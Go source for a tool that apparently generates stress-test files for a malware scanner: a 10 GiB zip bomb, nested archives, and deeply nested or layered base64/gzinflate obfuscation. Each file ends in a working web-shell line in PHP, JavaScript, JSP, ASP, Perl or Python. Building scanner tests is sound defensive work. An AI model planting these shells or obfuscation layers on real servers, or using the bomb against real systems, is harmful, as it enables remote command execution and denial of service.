// Command hostile writes files that are made to cost a scanner time and memory: a
// tree for an image. Each of them ends in something that must be found, or must
// make the result incomplete.
//
//	hostile DIR
package main

import (
	"archive/zip"
	"bufio"
	"bytes"
	"compress/flate"
	"encoding/base64"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
	"strings"
)

const (
	shell = `system($_GET["c"]);`
	mega  = 1 << 20
)

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: hostile DIR")
		os.Exit(2)
	}
	root, err := os.OpenRoot(os.Args[1])
	if err == nil {
		err = write(root)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "hostile:", err)
		os.Exit(1)
	}
}

// write writes every file; each is made anew on a stream.
func write(root *os.Root) error {
	for name, fill := range files() {
		if err := root.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			return err
		}
		f, err := root.Create(name)
		if err != nil {
			return err
		}
		w := bufio.NewWriterSize(f, mega)
		if err := fill(w); err != nil {
			return fmt.Errorf("%s: %w", name, err)
		}
		if err := w.Flush(); err != nil {
			return err
		}
		if err := f.Close(); err != nil {
			return err
		}
	}
	return nil
}

type fill = func(w io.Writer) error

// repeated writes text before, n times part, text behind.
func repeated(before, part string, n int, behind string) fill {
	return func(w io.Writer) error {
		io.WriteString(w, before)
		for range n {
			io.WriteString(w, part)
		}
		_, err := io.WriteString(w, behind)
		return err
	}
}

func files() map[string]fill {
	nested := func(n int) fill {
		return repeated("<?php eval("+strings.Repeat("base64_decode(", n)+`"`, "", 0, `"`+strings.Repeat(")", n)+"); "+shell)
	}
	around := func(open, shut string, n int) fill {
		return repeated("<?php $a="+strings.Repeat(open, n), "1", 1, strings.Repeat(shut, n)+"; "+shell)
	}
	return map[string]fill{
		"srv/minified.js":       repeated("", "function a(b,c){return b.d(c)+e[f]};", 50*mega/36, `require("child_process").exec(req.query.c)`),
		"srv/minified.php":      repeated("<?php ", "function a($b,$c){return $b->d($c).$e[$f];}", 50*mega/43, shell),
		"srv/bomb.zip":          bomb(10 << 30),
		"srv/nested.zip":        nestedZip(5, 16),
		"srv/base64-calls.php":  nested(10_000),
		"srv/base64-30.php":     layers(30),
		"srv/deflate-600.php":   deflated(600),
		"srv/round.php":         around("(", ")", 100_000),
		"srv/square.php":        around("[", "]", 100_000),
		"srv/curly.php":         repeated("<?php "+strings.Repeat("{", 100_000), "", 0, strings.Repeat("}", 100_000)+shell),
		"srv/joined.php":        repeated("<?php $a='x'", ".'y'", 1_000_000, "; "+shell),
		"srv/appended.php":      repeated("<?php ", "$a.='xyxyxyxyxy';", 1_000_000, shell),
		"srv/doubled.php":       repeated("<?php $a='x';", "$a=$a.$a;", 1000, shell),
		"srv/joined.js":         repeated("a='x'", "+'y'", 1_000_000, `;require("child_process").exec(req.query.c)`),
		"srv/joined.jsp":        repeated(`<% String a="x"`, `+"y"`, 1_000_000, `; Runtime.getRuntime().exec(request.getParameter("c")); %>`),
		"srv/joined.asp":        repeated(`<% a="x"`, `&"y"`, 1_000_000, "\n"+`execute(request("c")) %>`),
		"srv/joined.pl":         repeated("#!/usr/bin/perl\n$a='x'", ".'y'", 1_000_000, ";\nsystem($ENV{QUERY_STRING});\n"),
		"srv/joined.py":         repeated("import os\na='x'", "+'y'", 1_000_000, "\nos.system(input())\n"),
		"srv/endless.php":       repeated("<?php ", "while(true){$i++; $s.=chr($i);} for(;;){a(b(c()));}", 1, shell),
		"srv/recursive.php":     repeated("<?php function f($x){return f($x.'a').f($x.'b');} f('');", "", 0, shell),
		"srv/many-strings.php":  repeated("<?php $z=[", "'"+base64.StdEncoding.EncodeToString(bytes.Repeat([]byte("text "), 20))+"',", 100_000, "]; "+shell),
		"srv/letters-20-mb.txt": repeated("", strings.Repeat("a", 1024), 20<<10, "!"),
	}
}

// layers is a code of n layers that grow.
func layers(n int) fill {
	code := shell
	for range n {
		code = `eval(base64_decode("` + base64.StdEncoding.EncodeToString([]byte(code)) + `"));`
	}
	return repeated("<?php ", code, 1, "")
}

// deflated is a code of n layers that hardly grow.
func deflated(n int) fill {
	return func(w io.Writer) error {
		code := shell
		for range n {
			var b bytes.Buffer
			z, err := flate.NewWriter(&b, flate.BestCompression)
			if err != nil {
				return err
			}
			io.WriteString(z, code) // to memory
			if err := z.Close(); err != nil {
				return err
			}
			code = `eval(gzinflate(base64_decode("` + base64.StdEncoding.EncodeToString(b.Bytes()) + `")));`
		}
		_, err := io.WriteString(w, "<?php "+code)
		return err
	}
}

// bomb is an archive of one member of n zeros.
func bomb(n int64) fill {
	return func(w io.Writer) error {
		var packed bytes.Buffer
		z, err := flate.NewWriter(&packed, flate.BestSpeed)
		if err != nil {
			return err
		}
		sum := crc32.NewIEEE()
		zeros := make([]byte, mega)
		for range n / mega {
			z.Write(zeros) // to memory
			sum.Write(zeros)
		}
		if err := z.Close(); err != nil {
			return err
		}
		a := zip.NewWriter(w)
		m, err := a.CreateRaw(&zip.FileHeader{Name: "zeros", Method: zip.Deflate, CRC32: sum.Sum32(), UncompressedSize64: uint64(n), CompressedSize64: uint64(packed.Len())})
		if err != nil {
			return err
		}
		if _, err := packed.WriteTo(m); err != nil {
			return err
		}
		return a.Close()
	}
}

// nestedZip is archives in archives, width of them in each of depth levels.
func nestedZip(depth, width int) fill {
	content := []byte("<?php " + shell)
	for level := range depth {
		var b bytes.Buffer
		a := zip.NewWriter(&b)
		for i := range width {
			name := fmt.Sprintf("%d.zip", i)
			if level == 0 {
				name = fmt.Sprintf("%d.php", i)
			}
			m, err := a.Create(name)
			if err == nil {
				_, err = m.Write(content)
			}
			if err != nil {
				return func(io.Writer) error { return err }
			}
		}
		if err := a.Close(); err != nil {
			return func(io.Writer) error { return err }
		}
		content = b.Bytes()
	}
	return repeated("", string(content), 1, "")
}
